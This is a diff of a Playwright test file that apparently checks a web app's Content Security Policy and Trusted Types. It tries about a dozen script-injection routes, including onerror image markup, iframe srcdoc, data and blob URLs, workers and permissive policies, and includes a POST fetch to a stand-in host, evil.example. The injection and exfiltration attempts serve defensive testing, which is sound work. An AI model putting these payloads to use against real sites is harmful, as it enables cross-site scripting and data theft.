@@ -5,23 +5,69 @@ import { test } from './fixtures';
 import { expectQuiet, watchPage } from './page-watch';
 import { Person } from './person';
 
-/** Injects a script in every way markup allows; returns the ways that ran. */
-async function scriptsThatRan(page: Page): Promise<string[]> {
+/** Injects a script in every way that markup and scripts allow. @returns the ways that ran, and those that threw */
+async function injectScripts(page: Page): Promise<{ ran: string[]; refused: string[] }> {
   return page.evaluate(async () => {
-    const ran: string[] = [];
+    const [ran, refused]: [string[], string[]] = [[], []];
     Object.assign(window, { ran });
-    const inline = document.createElement('script');
-    inline.textContent = 'window.ran.push("inline")';
-    const data = document.createElement('script');
-    data.src = 'data:text/javascript,window.ran.push("data")';
-    const blob = document.createElement('script');
-    blob.src = URL.createObjectURL(new Blob(['window.ran.push("blob")'], { type: 'text/javascript' }));
-    const holder = document.createElement('div');
-    holder.innerHTML =
-      '<img src="/none" onerror="window.ran.push(\'handler\')"><iframe srcdoc="<script>parent.ran.push(1)</script>">';
-    document.body.append(inline, data, blob, holder);
+    const attempt = (way: string, inject: () => unknown) => {
+      try {
+        inject();
+      } catch {
+        refused.push(way);
+      }
+    };
+    const append = (tag: string, prepare: (element: HTMLElement) => void) => {
+      const element = document.createElement(tag);
+      prepare(element);
+      document.body.append(element);
+    };
+    const toUrl = (way: string) =>
+      URL.createObjectURL(new Blob([`window.ran.push("${way}")`], { type: 'text/javascript' }));
+    const markup =
+      '<img src="/none" onerror="window.ran.push(\'markup\')"><iframe srcdoc="<script>parent.ran.push(1)</script>">';
+    attempt('text', () =>
+      append('script', (script) => Object.assign(script, { textContent: 'window.ran.push("text")' })),
+    );
+    attempt('node', () =>
+      append('script', (script) => script.append(document.createTextNode('window.ran.push("node")'))),
+    );
+    attempt('address', () => append('script', (script) => Object.assign(script, { src: toUrl('address') })));
+    attempt('data', () =>
+      append('script', (script) => Object.assign(script, { src: 'data:,window.ran.push("data")' })),
+    );
+    attempt('innerHTML', () => append('div', (holder) => Object.assign(holder, { innerHTML: markup })));
+    attempt('outerHTML', () =>
+      Object.assign(document.body.appendChild(document.createElement('i')), { outerHTML: markup }),
+    );
+    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', markup));
+    attempt('srcdoc', () => append('iframe', (frame) => Object.assign(frame, { srcdoc: markup })));
+    attempt('fragment', () => document.body.append(document.createRange().createContextualFragment(markup)));
+    attempt('parser', () => document.body.append(new DOMParser().parseFromString(markup, 'text/html').body));
+    attempt('handler', () =>
+      append('img', (image) => {
+        image.setAttribute('onerror', 'window.ran.push("handler")');
+        image.setAttribute('src', '/none');
+      }),
+    );
+    attempt('worker', () => new Worker(toUrl('worker')));
+    attempt('policy', () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
+    });
+    attempt('second policy', () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('aval-worker', { createScriptURL: (text: string) => text });
+    });
+    // Imports are no business of Trusted Types: the sources of scripts stop them.
+    for (const url of ['data:text/javascript,window.ran.push("import")', toUrl('import')])
+      await import(url).catch(() => undefined);
     await new Promise((resolve) => setTimeout(resolve, 500));
-    return ran;
+    return { ran, refused };
   });
 }
 
@@ -32,21 +78,28 @@ test('keys are created under the CSP of the page, in a worker with a CSP of its 
   });
   await new Person(page, 'ana').registerAndLogIn();
   expect(policies.length).toBeGreaterThan(0);
-  for (const policy of policies) expect(policy).toMatch(/default-src 'none'; .*connect-src 'self'/);
+  for (const policy of policies)
+    expect(policy).toMatch(
+      /default-src 'none'; .*connect-src 'self'; .*require-trusted-types-for 'script'; trusted-types 'none'/,
+    );
 });
 
 test('injected scripts do not run, and no request leaves the origin', async ({ page }) => {
   const watch = await watchPage(page, APP_URL);
   await page.goto('/login');
-  expect(await scriptsThatRan(page)).toEqual([]);
+  const { ran, refused } = await injectScripts(page);
+  expect(ran).toEqual([]);
+  for (const way of ['text', 'address', 'data', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc', 'fragment'])
+    expect(refused).toContain(way);
+  for (const way of ['parser', 'worker', 'policy', 'second policy']) expect(refused).toContain(way);
+  const violations = watch.violations.join('\n');
   for (const directive of [
-    'script-src-elem inline',
+    'require-trusted-types-for',
+    'trusted-types',
     'script-src-elem data',
     'script-src-elem blob',
-    'script-src-attr',
-  ]) {
-    expect(watch.violations.join('\n')).toContain(directive);
-  }
+  ])
+    expect(violations).toContain(directive);
   const left = await page.evaluate(() =>
     fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
       () => 'sent',
@@ -94,7 +147,7 @@ test('the test explorer has its own CSP', async ({ page }) => {
   await expect(page).toHaveURL(/sent=/);
   expect(await page.evaluate(() => getComputedStyle(document.body).marginTop)).toBe('0px');
   expectQuiet(watch);
-  expect(await scriptsThatRan(page)).toEqual([]);
+  expect((await injectScripts(page)).ran).toEqual([]);
 });
 
 test('a tab outdated by a deployment says so and can be reloaded', async ({ ana: page }) => {
